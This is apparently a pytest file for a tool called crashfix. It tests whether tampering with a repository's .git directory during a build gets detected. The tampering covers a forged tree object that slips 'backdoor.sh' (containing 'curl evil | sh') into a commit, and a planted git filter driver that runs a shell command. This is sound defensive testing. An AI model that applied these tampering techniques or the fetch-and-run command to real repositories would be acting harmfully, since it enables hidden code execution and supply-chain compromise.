"""What a build could change in `.git` behind crashfix's back, done for real to a real repository: git's
settings (a filter driver crashfix's next git command would run) and the object store (a replaced
tree object that would slip a file into the sealed commit)."""

from __future__ import annotations

import os
import subprocess
import zlib
from pathlib import Path

import pytest

from crashfix.fixer.checkout.gitops import Git, blob_hash
from crashfix.fixer.checkout.integrity import GitChangedByTheBuild, check_commit, settings_kept, tree_listing
from tests.fixer.test_gitops import make_origin, sh


def plant_tree(clone: Path, folder: str, extra_name: str, extra: bytes) -> None:
    """Overwrite the loose object of `folder`'s tree at HEAD with a tree that also holds `extra_name`."""
    tree = sh(clone, "rev-parse", f"HEAD:{folder}").strip()
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=clone, input=extra, check=True,
                          capture_output=True).stdout.decode().strip()
    entries = [(line.split("\t")[1], line.split(" ")[0], line.split(" ")[2].split("\t")[0])
               for line in sh(clone, "ls-tree", f"HEAD:{folder}").splitlines()]
    entries.append((extra_name, "100644", blob))
    body = b"".join(f"{mode.lstrip('0')} {name}".encode() + b"\0" + bytes.fromhex(sha)
                    for name, mode, sha in sorted(entries))
    path = clone / ".git" / "objects" / tree[:2] / tree[2:]
    if not path.exists():
        pytest.skip("the tree object is packed in this clone")  # never for a fresh local clone
    path.chmod(0o644)
    path.unlink()  # a clone may hard-link objects: write a new file, leave the origin's alone
    path.write_bytes(zlib.compress(b"tree %d\0" % len(body) + body))


def test_a_replaced_tree_object_cannot_slip_a_file_into_the_sealed_commit(tmp_path: Path) -> None:
    origin, clone = make_origin(tmp_path)
    (clone / "tools").mkdir()
    (clone / "tools" / "check.sh").write_text("echo ok\n")
    sh(clone, "add", ".")
    sh(clone, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "-m", "tools")
    git = Git(clone, os.environ)
    base = git.start_local_branch("crashfix/local-1")
    listing = tree_listing(git, base)  # before the build
    plant_tree(clone, "tools", "backdoor.sh", b"curl evil | sh")  # the build, as the same user
    assert "backdoor.sh" in sh(clone, "ls-tree", "-r", "--name-only", base)  # git itself is fooled
    data = b"int hp = 1;\n"
    written = {"src/Player.cpp": blob_hash(data)}
    with pytest.raises(GitChangedByTheBuild, match="does not hold exactly the base files"):
        git.commit_contents(base, {"src/Player.cpp": data}, "Fix", branch="crashfix/local-1",
                            check=lambda commit: check_commit(git, commit, listing, written))
    assert sh(clone, "rev-parse", "crashfix/local-1").strip() == base  # the branch did not move


def test_an_honest_commit_passes_the_listing_check(tmp_path: Path) -> None:
    _, clone = make_origin(tmp_path)
    git = Git(clone, os.environ)
    base = git.start_local_branch("crashfix/local-2")
    listing = tree_listing(git, base)
    contents = {"src/Player.cpp": b"int hp = 1;\n", "src/New.h": b"#pragma once\n"}
    written = {path: blob_hash(data) for path, data in contents.items()}
    commit = git.commit_contents(base, contents, "Fix", branch="crashfix/local-2",
                                 check=lambda made: check_commit(git, made, listing, written))
    assert sh(clone, "rev-parse", "crashfix/local-2").strip() == commit


def test_a_filter_driver_planted_by_a_build_stops_the_run_before_git_runs_it(tmp_path: Path) -> None:
    _, clone = make_origin(tmp_path)
    git = Git(clone, os.environ)
    marker = tmp_path / "PWNED"
    with pytest.raises(GitChangedByTheBuild, match=r"changed the repository's git settings \(filter\.x\.clean"):
        with settings_kept(git, "the build of round 1"):
            sh(clone, "config", "filter.x.clean", f"touch {marker}; cat")
            (clone / ".git" / "info").mkdir(exist_ok=True)
            (clone / ".git" / "info" / "attributes").write_text("* filter=x\n")
    assert not marker.exists()
    with settings_kept(git, "a build that runs `git submodule init`"):  # allowed: submodule.* only
        sh(clone, "config", "submodule.lib.url", "https://example.invalid/lib.git")


def test_attributes_alone_count_as_a_change(tmp_path: Path) -> None:
    _, clone = make_origin(tmp_path)
    git = Git(clone, os.environ)
    with pytest.raises(GitChangedByTheBuild, match="info/attributes"):
        with settings_kept(git, "the build of round 1"):
            (clone / ".git" / "info").mkdir(exist_ok=True)
            (clone / ".git" / "info" / "attributes").write_text("*.cpp diff=evil\n")
